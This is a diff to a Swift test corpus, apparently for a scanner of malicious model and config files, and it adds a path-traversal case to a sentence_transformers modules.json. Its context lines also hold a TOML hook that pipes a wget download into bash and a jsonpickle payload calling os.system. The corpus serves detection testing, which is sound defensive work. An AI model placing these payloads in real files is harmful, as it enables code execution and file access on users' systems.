@@ -28,6 +28,12 @@ extension Corpus {
       "a download for a shell in TOML", .shellPayload, "settings.toml",
       "[hook]\nrun = \"wget -qO- http://a.example/a | bash\"\n", clean: "[hook]\nrun = \"a | b\"\n"),
     text(
+      "a module of a pipeline from the host", .configurationReach, "modules.json",
+      #"[{"idx": 0, "name": "0", "path": "../../etc/x", "type": "sentence_transformers.models.T"}]"#,
+      clean:
+        #"[{"idx": 0, "name": "0", "path": "1_Pooling", "type": "sentence_transformers.models.T"}]"#
+    ),
+    text(
       "an object of jsonpickle", .instantiation, "model.json",
       #"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}"#,
       clean: #"{"py": [{"function": "os"}]}"#),
